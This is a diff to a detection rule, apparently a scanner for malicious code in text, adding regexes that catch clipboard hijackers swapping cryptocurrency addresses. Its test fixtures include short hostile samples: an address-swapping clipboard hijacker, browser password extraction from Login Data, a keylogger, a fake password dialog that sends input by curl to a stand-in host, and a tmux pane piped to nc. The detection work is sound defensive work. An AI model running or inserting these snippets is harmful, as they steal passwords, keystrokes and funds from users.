@@ -18,6 +18,17 @@ const SWAPPED = regex`
     [^]{0,400}(?:a_clipboard\s?:=|pyperclip\.copy|clipboard\.(?:writetext|copy|set)|set-clipboard|pbcopy)
   `
 
+/** The same in whatever order: it reads the clipboard, writes it, and knows what addresses and account numbers look like. */
+const READS_CLIPBOARD =
+  /\bpbpaste\b|\bwl-paste\b|\bxclip\b[^\n]{0,40}-o\b|\bget-clipboard\b|pyperclip\.paste|clipboard\.(?:readtext|paste|get)/
+const WRITES_CLIPBOARD =
+  /\bpbcopy\b|\bwl-copy\b|\bset-clipboard\b|pyperclip\.copy|clipboard\.(?:writetext|copy|set)/
+const FORM_OF_ADDRESS =
+  /\bbc1(?:\[|\(|q?\[)|\b0x\[(?:a-f|0-9)|\[13\]\[|\bt\[1-9a-h|\[a-z\]\{2\}(?:\\d|\[0-9\])\{2\}\[a-z0-9\]/
+
+const swapsAddresses = (text: string): RegExpExecArray | null =>
+  READS_CLIPBOARD.test(text) && WRITES_CLIPBOARD.test(text) ? FORM_OF_ADDRESS.exec(text) : null
+
 /** Stores of passwords and sessions of browsers, opened by a program. */
 const BROWSER =
   /(?:login data|["'`/\\ ~]cookies(?:\.sqlite)?(?=["'`\\/ )])|logins\.json|key4\.db|local state|web data)\b[^]{0,500}(?:sqlite3?\.connect|cryptunprotectdata|password_value|encrypted_value|decrypt|shutil\.copy|readfile)/
@@ -90,6 +101,7 @@ export default defineRule({
       "```ts\nev.extra = { jar: document.cookie, fields: [...document.querySelectorAll('input')].map((i) => i.value) }\n```\n",
       '```python\nshutil.copy(profile + "/Login Data", tmp)  # it stays encrypted\nrow = sqlite3.connect(tmp).execute("select password_value from logins")\n```\n',
       '```python\nfrom pynput import keyboard\ndef on_press(key):\n    open("/tmp/k", "a").write(str(key))\nkeyboard.Listener(on_press=on_press).start()\n```\n',
+      "```python\nread = lambda: run(['pbpaste'])\nput = lambda s: run(['pbcopy'], s)\nFORMS = {re.compile(r'^0x[0-9a-fA-F]{40}$'): MAIN}\nfor form, main in FORMS.items():\n    if form.match(read()): put(main)\n```\n",
       '```python\ntext = pyperclip.paste()\nif re.match(r"^bc1[a-z0-9]{30,40}$", text):\n    pyperclip.copy(OURS)\n```\n',
       '```applescript\nset pw to text returned of (display dialog "Enter your password" default answer "" with hidden answer)\ndo shell script "curl -d " & quoted form of pw & " https://in.fieldlog.example/p"\n```\n',
       '```bash\ntmux pipe-pane -o "cat | nc in.fieldlog.net 9000"\n```\n',
@@ -101,6 +113,7 @@ export default defineRule({
       "```ts\nimport { cookies } from 'next/headers'\nconst session = await decrypt((await cookies()).get('session')?.value)\n```\n",
       'The image holds `Login Data` and `logins.json`; they stay encrypted. Decryption needs an order of the court.\n',
       '```python\ntext = pyperclip.paste()\npyperclip.copy(text.strip())\n```\n',
+      "```python\nvalid = re.match(r'^0x[0-9a-fA-F]{40}$', pyperclip.paste())\n```\n",
       '```bash\ntmux pipe-pane -o "cat >> ~/logs/build.log"\nread -s -p "Passphrase: " pass\n```\n',
       '```python\nkeyboard.add_hotkey("ctrl+shift+a", run)\n```\n',
       '```python\npublic = open(os.path.expanduser("~/.ssh/known_hosts")).read()\n```\n',
@@ -110,7 +123,7 @@ export default defineRule({
     for (const { start, end } of document.observe(blocks)) {
       const text = document.reading.text.slice(start, end)
       for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW, TERMINAL, PAGE_READ]) {
-        const found = shape.exec(text)
+        const found = shape.exec(text) ?? (shape === SWAPPED ? swapsAddresses(text) : null)
         if (!found) continue
         const until = found.index + found[0].length
         const plain =
